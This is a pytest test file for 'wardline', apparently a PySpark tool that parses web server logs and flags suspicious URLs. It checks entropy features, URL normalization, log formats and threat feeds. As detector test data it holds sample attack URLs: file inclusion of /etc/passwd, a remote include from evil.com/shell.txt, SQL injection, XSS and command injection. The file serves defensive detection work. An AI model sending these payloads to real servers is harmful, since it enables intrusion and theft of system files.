import math
import re
from collections import Counter
from datetime import datetime

import pytest
from pyspark.sql import functions as F

from wardline.functions.url import add_features, normalize_url
from wardline.sources.feeds import FeedRegistry, read_patterns
from wardline.sources.logs import load_config, parse_logs, read_configured, read_logs

LFI, RFI, SQL = "/index.php?page=../../../etc/passwd", "/include.php?file=http://evil.com/shell.txt", "/login.php?id=1' OR '1'='1'--"


def features(spark, *urls, agent=None):
    rows = spark.createDataFrame([(i, u, agent) for i, u in enumerate(urls)], "event_ord int, url string, user_agent string")
    return {r.url: r for r in add_features(rows).collect()}


def test_entropy_and_structure(spark):
    urls = ["/admin/login.php?id=1' OR '1'='1&token=abc123def456", "/index/index/index/index", "/admin/users.php?id=1&page=2&sort=name", "", "/a?", "/é😀é?x=1?y&z", "/a\nb"]
    out = features(spark, *urls)
    for u in urls:
        n = len(u)
        want = -sum(c / n * math.log2(c / n) for c in Counter(u).values()) if u else 0.0
        assert abs(out[u].entropy - want) < 1e-9 and out[u].url_length == n
        assert out[u].path_depth == len([p for p in u.split("?")[0].split("/") if p])
        assert out[u].query_params_count == (len(u.split("?")[1].split("&")) if "?" in u else 0)
    assert out[urls[0]].entropy > 4.0 > out[urls[1]].entropy


@pytest.mark.parametrize(("url", "flag"), [
    (LFI, "LFI_RFI"), (RFI, "LFI_RFI"), (SQL, "SQL_INJECTION"), ("/search.php?q=<script>alert('xss')</script>", "XSS"), ("/exec.php?cmd=cat /etc/passwd", "COMMAND_INJECTION"),
    ("/upload.php?file=shell.php", "SUSPICIOUS_EXTENSION"), ("/" + "a" * 2000, "LONG_URL"), ("/p?" + "&".join(f"k{i}={i}" for i in range(15)), "MANY_PARAMS"), ("/x?configuration=1", "XSS"), ("/x?a=1&id=2", "COMMAND_INJECTION"),
])
def test_flags(spark, url, flag):
    r = features(spark, url)[url]
    assert flag in r.heuristic_flags and r.is_suspicious and r.heuristic_flags == sorted(r.heuristic_flags)


def test_more_flags(spark):
    assert features(spark, "/plain", agent="python-requests/2.25.1")["/plain"].heuristic_flags == ["SUSPICIOUS_USER_AGENT"]
    assert features(spark, "/plain")["/plain"].heuristic_flags == [] and not features(spark, "/plain")["/plain"].is_suspicious
    assert "LFI_RFI" not in features(spark, "/a?u=https:/x")["/a?u=https:/x"].heuristic_flags
    high = "/admin.php?id=1&token=a1b2c3d4e5f6g7h8i9j0k1l2m3n4o5p6"
    r = features(spark, high)[high]
    assert ("HIGH_ENTROPY" in r.heuristic_flags) == (r.entropy > 4.5)


def test_normalize_url(spark):
    want = {"/a?x=1": ":///a", "http://H.com/a/b;p?q#f": "http://H.com/a/b", "HTTPS://h": "https://h", "http://h?x": "http://h", "//h/p": "://h/p", "": "://", "a;b/c;d": "://a;b/c"}
    rows = spark.createDataFrame([(u,) for u in want], "u string").select("u", normalize_url(F.col("u")).alias("n"))
    assert {r.u: r.n for r in rows.collect()} == want


NGINX = '203.0.113.42 - - [10/Oct/2023:13:55:36 +0200] "GET /a?x=1 HTTP/1.1" 200 123 "-" "curl/8"'
JSON = '{"source_ip":"10.0.0.1","timestamp":%s,"http_method":"GET","url_raw":"/j","status_code":200,"user_agent":null}'


def test_line_formats(spark):
    def parsed(lines, fmt):
        good, bad = parse_logs(spark.createDataFrame([(i, x) for i, x in enumerate(lines)], "event_ord long, value string"), fmt)
        return {r.event_ord: r for r in good.collect()}, {r.event_ord for r in bad.collect()}

    apache = NGINX.replace(" - - ", " ident user ")
    broken = ["", "garbage", NGINX.replace("203.0.113.42", "::1"), NGINX.replace("203.0.113.42", "256.1.1.1"), NGINX.replace(" 123 ", " - "), NGINX.replace("Oct", "Okt")]
    good, bad = parsed([NGINX, f"  {NGINX}  ", apache, *broken], "nginx")
    assert set(good) == {0, 1} and bad == set(range(2, 9))
    assert good[0].timestamp == datetime(2023, 10, 10, 11, 55, 36) and (good[0].url, good[0].url_normalized, good[0].status_code, good[0].user_agent) == ("/a?x=1", ":///a", 200, "curl/8")
    assert set(parsed([NGINX, apache, *broken], "apache")[0]) == {0, 1}
    stamps = ['"2023-10-10T11:55:36Z"', '"2023-10-10T13:55:36+02:00"', "1696938936", '"2023-10-10T11:55:36"']
    good, bad = parsed([JSON % s for s in stamps] + ['{"source_ip":"10.0.0.1"}', "{", (JSON % "1").replace("10.0.0.1", "host"), (JSON % '"x"')], "json")
    assert {r.timestamp for r in good.values()} == {datetime(2023, 10, 10, 11, 55, 36)} and set(good) == {0, 1, 2, 3} and bad == {4, 5, 6, 7}
    with pytest.raises(ValueError, match="unknown log format"):
        parsed([], "iis")


def test_files_and_configuration(spark, tmp_path):
    (tmp_path / "log").write_text(NGINX + "\nbad\n" + NGINX + "\n")
    (tmp_path / "c.yaml").write_text(f"ingestion:\n  input_file: {tmp_path}/log\n  log_format: nginx\n")
    assert read_configured(spark, load_config(f"{tmp_path}/c.yaml")).count() == 2 and read_logs(spark, f"{tmp_path}/log", max_events=1).count() == 1
    with pytest.raises(Exception, match="PATH_NOT_FOUND"):
        read_logs(spark, f"{tmp_path}/none")
    (tmp_path / "feed").write_text("# note\n a \n\nb\na\n")
    assert sorted(r.pattern for r in read_patterns(spark, f"{tmp_path}/feed").collect()) == ["a", "b"]
    feeds = FeedRegistry(spark, [{"name": "f", "feed_type": "url_path", "path": f"{tmp_path}/feed"}, {"name": "gone", "feed_type": "url_path", "path": f"{tmp_path}/gone"}])
    assert feeds.update() and not feeds.update() and feeds.update(force=True) and feeds.update(force=True)
    assert [(r.feed, r.enabled, r.pattern) for r in feeds.table().orderBy("feed_ord", "pattern").collect()] == [("f", True, "a"), ("f", True, "b"), ("gone", False, None)]


def test_patterns_match_like_python(spark):
    from wardline.functions.url import AGENT_PATTERN, FLAG_PATTERNS, any_of

    probes = [LFI, RFI, SQL, "ONıİx =", "onclick =", "x| cat", "/ſh;sh", "union%20SELECT", "١'or 1", "'or'é'", "cat /a", "caté /a"]
    for family, patterns in FLAG_PATTERNS.items():
        got = {r.u: r.m for r in spark.createDataFrame([(u,) for u in probes], "u string").select("u", F.col("u").rlike(any_of(patterns)).alias("m")).collect()}
        assert got == {u: any(re.search(p, u, re.IGNORECASE) for p in patterns) for u in probes}, family
    assert re.search(AGENT_PATTERN, "Googlebot", re.IGNORECASE)
